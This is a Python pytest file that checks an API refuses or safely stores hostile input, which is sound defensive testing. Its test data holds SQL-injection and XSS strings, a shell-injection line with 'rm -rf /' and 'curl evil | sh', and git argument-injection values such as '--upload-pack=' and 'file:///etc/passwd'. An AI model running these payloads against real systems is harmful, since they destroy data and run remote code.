"""Bad input at the HTTP door: malformed and oversized bodies, wrong shapes, invalid slugs, hostile
names, hostile repositories, secret-looking target keys, malformed headers. Each gets a clear
problem+json answer and nothing already stored is lost or changed."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest
from litestar import Litestar
from litestar.testing import AsyncTestClient

from tests.integration.api_support import ADMIN_H, PROBLEM, api_client, env_body, project_body

BASE = "/api/tenants/acme"
JSON_H = {**ADMIN_H, "Content-Type": "application/json"}


@pytest.fixture
async def client(pg_url: str) -> AsyncIterator[AsyncTestClient[Litestar]]:
    async with api_client(pg_url) as client:
        created = await client.post(f"{BASE}/projects", json=project_body(), headers=ADMIN_H)
        assert created.status_code == 201
        yield client


async def event_count(client: AsyncTestClient[Litestar]) -> int:
    return len((await client.get(f"{BASE}/events", headers=ADMIN_H)).json()["items"])


def assert_problem(response: Any, status: int, *fragments: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    body: dict[str, Any] = response.json()
    assert body["status"] == status
    assert body["type"].startswith("urn:lockgate:error:")
    for fragment in fragments:
        assert fragment in body["detail"], body
    return body


@pytest.mark.parametrize("raw", [b"{bad json", b"[1, 2", b'{"project_id": "x",}', b"\xff\xfe", b"null", b"42"])
async def test_malformed_json_is_a_400_problem_and_writes_nothing(
    client: AsyncTestClient[Litestar], raw: bytes
) -> None:
    before = await event_count(client)
    response = await client.post(f"{BASE}/projects", content=raw, headers=JSON_H)
    assert_problem(response, 400)
    assert await event_count(client) == before


async def test_an_oversized_body_is_a_413_problem(client: AsyncTestClient[Litestar]) -> None:
    before = await event_count(client)
    huge = project_body("big", name="x" * (1024 * 1024 + 10))
    response = await client.post(f"{BASE}/projects", json=huge, headers=ADMIN_H)
    assert_problem(response, 413)
    assert await event_count(client) == before


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        ({"name": "Shop", "repository": "/srv/x"}, "project_id"),
        (project_body("x", roundtrip_level=7), "roundtrip_level"),
        (project_body("x", name=123), "name"),
        (project_body("x", unexpected="field"), "unexpected"),
        (project_body("x", editable_models="orders"), "editable_models"),
    ],
)
async def test_a_body_of_the_wrong_shape_is_a_400_naming_the_field(
    client: AsyncTestClient[Litestar], body: dict[str, Any], fragment: str
) -> None:
    response = await client.post(f"{BASE}/projects", json=body, headers=ADMIN_H)
    problem = assert_problem(response, 400)
    assert fragment in str(problem), problem


@pytest.mark.parametrize("project_id", ["Shop", "sh-op", "sh op", "'; DROP TABLE events; --", "../etc", "x" * 64, ""])
async def test_an_invalid_slug_in_the_body_is_refused(client: AsyncTestClient[Litestar], project_id: str) -> None:
    before = await event_count(client)
    response = await client.post(f"{BASE}/projects", json=project_body(project_id), headers=ADMIN_H)
    assert response.status_code in {400, 422}, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    assert await event_count(client) == before


@pytest.mark.parametrize("project_id", ["Shop", "sh-op", "%27%3B%20DROP%20TABLE%20events%3B--", "a.b"])
async def test_an_invalid_slug_in_the_path_is_a_422(client: AsyncTestClient[Litestar], project_id: str) -> None:
    response = await client.get(f"{BASE}/projects/{project_id}", headers=ADMIN_H)
    assert_problem(response, 422, "is not a valid slug")


@pytest.mark.parametrize(
    "name",
    [
        "'; DROP TABLE events; --",
        "Robert'); DROP TABLE tenancy_projects;--",
        "<script>alert('x')</script>",
        '<img src=x onerror="alert(1)">',
        "$(rm -rf /) `reboot` && curl evil | sh",
        "{{7*7}} ${7*7} %s %n",
        "Ünïcödé 名前 🚀 \u202etxt.exe",
    ],
)
async def test_hostile_names_are_stored_and_returned_verbatim(client: AsyncTestClient[Litestar], name: str) -> None:
    created = await client.post(f"{BASE}/projects", json=project_body("hostile", name=name), headers=ADMIN_H)
    assert created.status_code == 201, created.text
    assert created.headers["content-type"].startswith("application/json")
    assert created.json()["name"] == name
    got = await client.get(f"{BASE}/projects/hostile", headers=ADMIN_H)
    assert got.json()["name"] == name
    listed = await client.get(f"{BASE}/projects", headers=ADMIN_H)
    assert {p["project_id"] for p in listed.json()["items"]} == {"shop", "hostile"}  # nothing dropped
    events = (await client.get(f"{BASE}/events", params={"stream": "project-hostile"}, headers=ADMIN_H)).json()
    assert events["items"][0]["payload"]["name"] == name


@pytest.mark.parametrize(
    ("repository", "fragment"),
    [
        ("ext::sh -c touch% /tmp/pwned", "remote helpers"),
        ("--upload-pack=touch /tmp/pwned", "must not start with '-'"),
        ("/srv/dbt; rm -rf /", "must not contain"),
        ("https://user:ghp_secret@github.com/acme/shop.git", "credentials"),
        ("file:///etc/passwd", "file://"),
        ("relative/path", "absolute local path"),
    ],
)
async def test_hostile_repository_locations_are_a_422(
    client: AsyncTestClient[Litestar], repository: str, fragment: str
) -> None:
    response = await client.post(f"{BASE}/projects", json=project_body("r", repository=repository), headers=ADMIN_H)
    body = assert_problem(response, 422, "repository location refused", fragment)
    assert body["code"] == "contract_violation"


async def test_a_url_with_credentials_is_refused_without_echoing_them(client: AsyncTestClient[Litestar]) -> None:
    body = project_body("creds", repository="https://bob:ghp_TOPSECRET@github.com/acme/shop.git")
    response = await client.post(f"{BASE}/projects", json=body, headers=ADMIN_H)
    assert_problem(response, 422, "credentials must not be part of the URL")
    assert "ghp_TOPSECRET" not in response.text
    assert "ghp_TOPSECRET" not in (await client.get(f"{BASE}/events", headers=ADMIN_H)).text


async def test_editable_models_below_level_2_are_a_422(client: AsyncTestClient[Litestar]) -> None:
    response = await client.put(
        f"{BASE}/projects/shop/settings",
        json={"repository": "/srv/dbt/shop", "roundtrip_level": 1, "editable_models": ["orders"]},
        headers=ADMIN_H,
    )
    assert_problem(response, 422, "only allowed at roundtrip level 2")
    assert (await client.get(f"{BASE}/projects/shop", headers=ADMIN_H)).json()["version"] == 1


@pytest.mark.parametrize("key", ["password", "token", "private_key", "client_secret", "snowflake_api_key"])
async def test_secret_looking_target_keys_are_refused_and_never_echoed(
    client: AsyncTestClient[Litestar], key: str
) -> None:
    body = env_body(target={"database": "X", key: "hunter2-very-secret"}, secrets={})
    response = await client.post(f"{BASE}/projects/shop/environments", json=body, headers=ADMIN_H)
    assert_problem(response, 422, f"target setting '{key}' looks like a secret", "secrets")
    assert "hunter2-very-secret" not in response.text
    events = await client.get(f"{BASE}/events", headers=ADMIN_H)
    assert "hunter2-very-secret" not in events.text
    assert (await client.get(f"{BASE}/projects/shop/environments", headers=ADMIN_H)).json()["items"] == []


@pytest.mark.parametrize("if_match", ["abc", "1.5", '"-1"', "W/abc", '"1", "2"'])
async def test_a_malformed_if_match_is_a_422(client: AsyncTestClient[Litestar], if_match: str) -> None:
    response = await client.patch(
        f"{BASE}/projects/shop", json={"name": "x"}, headers={**ADMIN_H, "If-Match": if_match}
    )
    assert_problem(response, 422, "If-Match")


async def test_an_idempotency_key_reused_for_another_stream_is_refused(client: AsyncTestClient[Litestar]) -> None:
    headers = {**ADMIN_H, "Idempotency-Key": "same-key"}
    assert (await client.post(f"{BASE}/projects", json=project_body("one"), headers=headers)).status_code == 201
    response = await client.post(f"{BASE}/projects", json=project_body("two"), headers=headers)
    assert_problem(response, 422, "already used")
    assert (await client.get(f"{BASE}/projects/two", headers=ADMIN_H)).status_code == 404


@pytest.mark.parametrize(
    ("params", "status"),
    [({"limit": "0"}, 400), ({"limit": "100000"}, 400), ({"limit": "ten"}, 400), ({"status": "deleted"}, 400)],
)
async def test_bad_list_parameters_are_a_400(
    client: AsyncTestClient[Litestar], params: dict[str, str], status: int
) -> None:
    assert_problem(await client.get(f"{BASE}/projects", params=params, headers=ADMIN_H), status)
